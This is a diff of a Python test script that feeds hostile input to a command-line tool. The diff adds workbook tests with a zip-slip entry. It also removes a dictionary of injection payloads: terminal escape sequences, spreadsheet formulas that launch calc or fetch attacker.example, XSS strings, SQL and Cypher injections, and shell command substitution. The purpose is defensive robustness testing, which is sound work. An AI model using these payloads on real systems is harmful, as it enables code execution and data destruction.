@@ -15,53 +15,14 @@ import sqlite3
 import subprocess
 import sys
 import xml.etree.ElementTree as xml
+import zipfile
+from xml.sax.saxutils import escape, quoteattr
 
+from attacks import ACTS, ADDRESSES, ATTACKS
 from harness import Case, finish
 
 PROGRAM = os.path.abspath(sys.argv[1])
 
-# What each would do where it is not taken for a text.
-ATTACKS = {
-    "changes the colour": "\x1b[31mAlpha\x1b[0m",
-    "names the window": "\x1b]0;Bravo\x07",
-    "writes to the clipboard": "\x1b]52;c;Q2hhcmxpZQ==\x07Charlie",
-    "hides a link": "\x1b]8;;https://attacker.example/\x1b\\Delta\x1b]8;;\x1b\\",
-    "asks the terminal": "\x1bP$q\"p\x1b\\Echo\x1b[6n",
-    "goes up and erases": "\x1b[2A\x1b[2KFoxtrot",
-    "is a sequence of one byte": "\u009b31mGolf\u009d0;x\u009c",
-    "overwrites its line": "Hotel\rIndia",
-    "takes back what it said": "Juliett\b\b\b\bKilo\x7f",
-    "rings": "Lima\a",
-    "overrides the direction": "Mike \u202etxt.exe\u202c",
-    "isolates": "\u2066November\u2069 \u2067Oscar\u2069",
-    "marks the direction": "\u200fPapa\u200e\u061c",
-    "ends its line": "Quebec\nRomeo\r\nSierra\u2028Tango\u2029Uniform",
-    "starts a program": "=cmd|' /C calc'!A0",
-    "fetches an address": "+HYPERLINK(\"https://attacker.example/\"&A1;\"Victor\")",
-    "computes": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "is a negative formula": "-2+3+cmd|' /C calc'!A0",
-    "is a formula behind a tab": "\t=1+1",
-    "is a formula behind a line end": "\r=1+1",
-    "ends the script": "</script><script>alert(1)</script>",
-    "loads a picture": "<img src=x onerror=alert(2)>",
-    "ends an attribute": "\"'><svg/onload=alert(3)>",
-    "ends a section": "]]><script>alert(4)</script><![CDATA[",
-    "ends a comment": "--><script>alert(5)</script><!--",
-    "is an entity": "&lt;script&gt;alert(6)&#60;/script&#62;&xxe;",
-    "is a template": "${alert(7)} `alert(8)` {{7*7}} <%= 7 %>",
-    "ends a Cypher text": "\\' \"}) MATCH (n) DETACH DELETE n; //",
-    "ends a Cypher name": "Whiskey`) DETACH DELETE n //",
-    "ends a label": "\"]; evil [label=<<b>X-ray</b>>]; \\",
-    "ends a text of RDF": "\" . <urn:evil> <urn:evil> <urn:evil> . \\u0022 \\",
-    "ends a text of SQL": "'); DROP TABLE claims; --",
-    "runs in a shell": "$(touch evil) `touch evil`; touch evil",
-    "is Markdown": "[Yankee](javascript:alert(9)) ![](https://attacker.example/x.png)",
-    "is an address": "javascript:alert(10)",
-}
-ADDRESSES = ["javascript:alert(1)", "data:text/html,<script>alert(2)</script>", "https://a.example/\"onmouseover=\"alert(3)",
-             "https://a.example/>\n<urn:evil> <urn:evil> <urn:evil>", "file:///etc/passwd", "\x1b]0;x\x07"]
-TURNS = "\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
-ACTS = re.compile(f"[\x00-\x09\x0b-\x1f\x7f-\x9f{TURNS}]")
 COLOUR = re.compile(r"\x1b\[[0-9;]*m")
 
 
@@ -268,8 +229,83 @@ def check_writers(case):
     case.check("nothing was run", not (case.folder / "evil").exists())
 
 
+XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
+# What XML cannot hold is written as Excel does it, which is a text for us.
+UNHELD = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
+
+
+def cells():
+    """The rows of the set, its header first. The last column's header acts, too."""
+    texts = [{**row, next(iter(ATTACKS.values())): row["id"]} for row in rows()]
+    for row in ([*texts[0]], *(list(row.values()) for row in texts)):
+        yield [UNHELD.sub(lambda found: f"_x{ord(found[0]):04X}_", cell) for cell in row]
+
+
+def write_excel(path, tables):
+    """Cells as shared strings, as strings of formulas and in place, in turn; sheets are named by the attacks."""
+    strings, sheets, links = [], [], []
+    with zipfile.ZipFile(path, "w") as book:
+        for number, (name, table) in enumerate(tables, 1):
+            lines = []
+            for row in table:
+                line = []
+                for cell in row:
+                    kind = len(strings) % 3
+                    strings.append(f"<si><t>{escape(cell)}</t></si>")
+                    line.append((f'<c t="s"><v>{len(strings) - 1}</v></c>', f'<c t="str"><f>{escape(cell)}</f><v>{escape(cell)}</v></c>',
+                                 f'<c t="inlineStr"><is><t>{escape(cell)}</t></is></c>')[kind])
+                lines.append(f"<row>{''.join(line)}</row>")
+            book.writestr(f"xl/worksheets/sheet{number}.xml", f"{XML}<worksheet><sheetData>{''.join(lines)}</sheetData></worksheet>")
+            sheets.append(f'<sheet name={quoteattr(UNHELD.sub("", name))} r:id="rId{number}"/>')
+            links.append(f'<Relationship Id="rId{number}" Target="worksheets/sheet{number}.xml"/>')
+        book.writestr("[Content_Types].xml", f"{XML}<Types/>")
+        book.writestr("xl/workbook.xml", f'{XML}<workbook xmlns:r="urn:r"><sheets>{"".join(sheets)}</sheets></workbook>')
+        book.writestr("xl/_rels/workbook.xml.rels", f"{XML}<Relationships>{''.join(links)}</Relationships>")
+        book.writestr("xl/sharedStrings.xml", f"{XML}<sst>{''.join(strings)}</sst>")
+        book.writestr("../../evil", "this is nowhere unpacked")
+
+
+def write_open_document(path, tables):
+    with zipfile.ZipFile(path, "w") as book:
+        book.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
+        sheets = []
+        for name, table in tables:
+            lines = ["<table:table-row>" + "".join(
+                f'<table:table-cell office:value-type="string" table:formula={quoteattr(cell)}>'
+                + "".join(f"<text:p>{escape(line)}</text:p>" for line in cell.split("\n")) + "</table:table-cell>" for cell in row)
+                + "</table:table-row>" for row in table]
+            sheets.append(f'<table:table table:name={quoteattr(UNHELD.sub("", name))}>{"".join(lines)}</table:table>')
+        book.writestr("content.xml", f'{XML}<office:document-content xmlns:office="urn:o" xmlns:table="urn:t" xmlns:text="urn:x"><office:body>'
+                      f'<office:spreadsheet>{"".join(sheets)}</office:spreadsheet></office:body></office:document-content>')
+        book.writestr("../../evil", "this is nowhere unpacked")
+
+
+def check_workbooks(case):
+    """The set as cells, formulas, headers and names of sheets: it reaches no screen, and the graph holds it as a text."""
+    table = list(cells())
+    tables = [("relations", table), *((text, table[:1] + [table[1 + number]]) for number, text in enumerate(ATTACKS.values()))]
+    broken = [(text, [["source", "relation", "target"], [text, "bans", ""]]) for text in ATTACKS.values()]
+    for extension, write in ((".xlsx", write_excel), (".ods", write_open_document)):
+        name = "book" + extension
+        write(case.folder / name, tables)
+        write(case.folder / ("broken" + extension), broken)
+        for words in (["explain", name], ["stats", name, "--most", "100"], ["claims", name], ["export", name, "-o", "book.json"],
+                      ["export", name, "-o", "book.csv"], ["read", name], ["stats", "broken" + extension]):
+            done = case.run(*words)
+            case.check(f"{words}: exit code {done.returncode}", done.returncode in ({0} if words[1] == name else {0, 1, 3}), done)
+            shown = (done.stdout if words[0] not in ("claims", "read") else b"") + done.stderr
+            found = ACTS.search(shown.decode("utf-8", "backslashreplace"))
+            case.check(f"{words}: a screen passes on {found}", not found)
+        names = {node["name"] for node in json.loads((case.folder / "book.json").read_bytes())["nodes"]}
+        for text in ("</script><script>alert(1)</script>", "=cmd|' /C calc'!A0", "'); DROP TABLE claims; --", "Mike \u202etxt.exe\u202c"):
+            case.check(f"{name}: {text!r} is a name", text in names)
+        check_table(case, "book.csv", case.folder / "book.csv")
+    case.check("nothing was unpacked", not list(case.folder.parent.glob("evil")) and not list(case.folder.rglob("evil")))
+
+
 with Case(PROGRAM) as the_case:
     prepare(the_case)
+    check_workbooks(the_case)
     check_screens(the_case)
     check_writers(the_case)
 finish()
